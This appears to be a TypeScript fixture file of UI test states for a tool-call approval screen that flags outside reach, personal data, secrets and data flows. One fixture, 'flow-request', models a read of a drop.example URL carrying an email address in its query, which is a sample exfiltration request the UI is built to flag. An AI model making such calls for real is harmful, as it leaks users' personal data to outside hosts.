import { call, keys, mail } from './cards.ts';
import { FLOW_OFFER, longFlow, mailFlow, PLACES, REACHED } from './chips.ts';
import { stateOf } from './page.ts';
import { press, type Look } from './states.ts';

/** Looks of what a call can reach, of where its values came from, and of the rule that asks about it. */
export const REACH_LOOKS: readonly Look[] = [
  {
    name: 'chips-open',
    state: () => stateOf([mail(), call()]),
    steps: async (page) => {
      await press(page, 'more');
      await press(page, 'Reaches outside');
      await press(page, 'Personal data');
      await press(page, 'No sandbox');
    },
    height: 1000,
  },
  {
    name: 'chips-warning',
    state: () => stateOf([keys()]),
    steps: (page) => press(page, 'Keys or passwords'),
  },
  {
    name: 'flow',
    state: () => stateOf([mail({ offers: [...mail().offers, FLOW_OFFER] }), call()]),
    steps: (page) => page.locator('[data-focus^="show "]').click(),
    height: 1000,
  },
  {
    name: 'flow-many',
    state: () => stateOf([mail({ flow: longFlow() })]),
    steps: (page) => page.locator('[data-focus^="show "]').click(),
    height: 1200,
  },
  {
    name: 'flow-places',
    state: () => stateOf([mail({ flow: longFlow() })]),
    steps: (page) => page.locator('[data-focus^="show "]').click(),
    replies: { passages: PLACES },
    height: 1300,
  },
  {
    name: 'flow-request',
    state: () =>
      stateOf([
        mail({
          tool: 'resources/read',
          server: 'pages',
          effect: 'Reads the resource https://drop.example/?q=bob%40evil.example from pages',
          args: JSON.stringify({ uri: 'https://drop.example/?q=bob@evil.example' }),
          editable: false,
          flow: {
            ...mailFlow(),
            trails: mailFlow().trails.map((trail) => ({ ...trail, path: '/uri' })),
            to: { tool: 'resources/read', server: 'pages', names: ['drop.example'] },
          },
        }),
      ]),
    steps: (page) => page.locator('[data-focus^="show "]').click(),
    replies: { passages: { passages: PLACES.passages.slice(0, 1) } },
    height: 1000,
  },
  {
    name: 'flow-hosts',
    state: () => stateOf([mail({ flow: { ...mailFlow(), reached: REACHED } })]),
    steps: (page) => page.locator('[data-focus^="show "]').click(),
    height: 1100,
  },
  {
    name: 'flow-talk',
    state: () => stateOf([call({ talk: { ...mailFlow(), reached: REACHED } })]),
    height: 1100,
    steps: (page) => page.locator('[data-focus^="server "]').first().click(),
  },
  {
    name: 'rule',
    state: () =>
      stateOf([
        call({
          offers: call().offers.filter(
            (o) => !o.choice.startsWith('allow') || o.choice === 'allow-once',
          ),
          notes: [
            {
              tone: 'notice',
              text: 'You are asked because of a rule of this repository: "Production data: ask the owner of the table first, and say in the ticket who agreed."',
            },
          ],
          why: [
            'A rule demands that you are asked.',
            'Rule production (repository), in .vscode/countersign.json',
            'Reason: Production data: ask the owner of the table first, and say in the ticket who agreed.',
          ],
        }),
      ]),
    steps: (page) => press(page, 'Why asked'),
    height: 1000,
  },
];
